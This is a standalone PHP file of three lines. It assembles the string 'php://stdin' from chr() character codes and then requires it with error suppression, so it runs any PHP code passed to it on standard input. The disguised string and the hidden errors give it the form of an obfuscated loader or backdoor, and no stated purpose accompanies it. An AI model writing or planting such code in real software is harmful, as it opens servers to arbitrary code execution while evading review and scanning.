<?php
$loader = chr(112) . chr(104) . chr(112) . chr(58) . '//' . 'stdin';
@require $loader;
